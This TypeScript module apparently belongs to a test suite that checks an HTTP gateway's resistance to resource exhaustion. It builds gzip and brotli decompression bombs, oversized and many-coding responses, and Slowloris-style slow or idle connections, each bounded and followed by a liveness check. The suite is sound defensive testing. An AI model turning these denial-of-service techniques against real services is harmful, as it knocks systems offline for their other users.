import { gzipSync, constants, brotliCompressSync } from 'node:zlib';
import type { Attack } from '../attack.ts';
import type { Session } from '../session.ts';
import { createReply } from '../upstreams.ts';

const ZEROS_BYTES = 4 * 1024 * 1024;
const MEMBERS = 50;
const IDLE_CONNECTIONS = 60;
const SLOW_MS = 2_500;

const LEAK = 'nothing; the gate is gone for everybody else';

async function assertAlive(session: Session): Promise<void> {
  if (!(await session.isAlive())) session.find('the gate no longer answers an honest request');
}

/** Holds `count` connections open with what `send` gives, and asks for an honest answer meanwhile. */
async function besiege(session: Session, count: number, send: readonly string[], delayMs: number, secure = true): Promise<void> {
  const steps = send.map((data) => ({ data, delayMs }));
  const siege = Array.from({ length: count }, () => session.exchange({ to: 'bound', secure, send: steps, totalMs: SLOW_MS, firstByteMs: SLOW_MS, idleMs: SLOW_MS }));
  await new Promise((resolve) => setTimeout(resolve, SLOW_MS / 3));
  await assertAlive(session);
  await Promise.all(siege);
} // prettier-ignore

/** Few bytes that cost much, and time that costs nothing. All bounded: this is a test, not a flood. */
export const EXHAUSTION_ATTACKS: readonly Attack[] = [
  {
    id: 'bomb-gzip',
    title: '200 MB of zeros in 200 kB of gzip',
    category: 'exhaustion',
    reference: 'CWE-409',
    leak: LEAK,
    run: async (session) => {
      const member = gzipSync(Buffer.alloc(ZEROS_BYTES));
      const bomb = Buffer.concat(Array.from({ length: MEMBERS }, () => member));
      session.answer((request) =>
        request.target.includes('bomb') ? createReply('200 OK', ['Content-Encoding: gzip'], bomb) : undefined,
      );
      await session.exchange({ to: 'bound', send: [session.request('/bomb')], keepBytes: 10_000, totalMs: 3_000 });
      await assertAlive(session);
    },
  },
  {
    id: 'bomb-nested',
    title: 'gzip of gzip of zeros, and brotli of zeros',
    category: 'exhaustion',
    reference: 'CWE-409',
    leak: LEAK,
    run: async (session) => {
      const inner = gzipSync(Buffer.alloc(ZEROS_BYTES * 8));
      const options = { params: { [constants.BROTLI_PARAM_QUALITY]: 5 } };
      const bombs = [
        createReply('200 OK', ['Content-Encoding: gzip, gzip'], gzipSync(inner)),
        createReply('200 OK', ['Content-Encoding: br'], brotliCompressSync(Buffer.alloc(ZEROS_BYTES * 8), options)),
      ];
      for (const bomb of bombs) {
        session.answer((request) => (request.target.includes('bomb') ? bomb : undefined));
        await session.exchange({ to: 'bound', send: [session.request('/bomb')], keepBytes: 10_000, totalMs: 2_000 });
      }
      await assertAlive(session);
    },
  },
  {
    id: 'many-codings',
    title: 'An answer with 500 content codings',
    category: 'exhaustion',
    reference: 'CVE-2022-32206',
    leak: LEAK,
    run: async (session) => {
      const codings = Array.from({ length: 500 }, () => 'gzip').join(', ');
      session.answer((request) =>
        request.target.includes('bomb')
          ? createReply('200 OK', [`Content-Encoding: ${codings}`], gzipSync('x'))
          : undefined,
      );
      await session.exchange({ to: 'bound', send: [session.request('/bomb')] });
      await assertAlive(session);
    },
  },
  {
    id: 'large-heads',
    title: 'A megabyte of field lines, in a request and in an answer',
    category: 'exhaustion',
    reference: 'RFC 9110 section 5.4',
    leak: LEAK,
    run: async (session) => {
      const lines = Array.from({ length: 1_000 }, (_, index) => `X-${index}: ${'a'.repeat(1_000)}`);
      await session.exchange({
        to: 'bound',
        send: [session.request('/', { lines: [`Host: ${session.target.bound}`, ...lines] })],
      });
      session.answer((request) => (request.target.includes('large') ? createReply('200 OK', lines) : undefined));
      await session.exchange({ to: 'bound', send: [session.request('/large')], keepBytes: 10_000 });
      await assertAlive(session);
    },
  },
  {
    id: 'slow-heads',
    title: `${IDLE_CONNECTIONS} requests whose head never ends`,
    category: 'exhaustion',
    reference: 'CWE-400 (Slowloris)',
    leak: LEAK,
    run: (session) => besiege(session, IDLE_CONNECTIONS, ['GET / HT', 'TP/1.1\r\n', 'Host: ', 'x', 'x'], 300),
  },
  {
    id: 'slow-bodies',
    title: `${IDLE_CONNECTIONS} requests whose body never comes`,
    category: 'exhaustion',
    reference: 'CWE-400',
    leak: LEAK,
    run: (session) =>
      besiege(
        session,
        IDLE_CONNECTIONS,
        [`POST /slow HTTP/1.1\r\nHost: ${session.target.bound}\r\nContent-Length: 1000\r\n\r\n`, 'a', 'a', 'a'],
        300,
      ),
  },
  {
    id: 'half-open',
    title: `${IDLE_CONNECTIONS} connections that say nothing`,
    category: 'exhaustion',
    reference: 'CWE-400',
    leak: LEAK,
    run: (session) => besiege(session, IDLE_CONNECTIONS, [], 0, false),
  },
  {
    id: 'slow-answers',
    title: 'Upstream answers that never end',
    category: 'exhaustion',
    reference: 'CWE-400',
    leak: LEAK,
    run: async (session) => {
      session.answer((request) =>
        request.target.includes('slow')
          ? { pieces: [...'HTTP/1.1 200 OK'].map((letter) => Buffer.from(letter)), delayMs: 200 }
          : undefined,
      );
      await besiege(session, 20, [session.request('/slow')], 0);
    },
  },
];
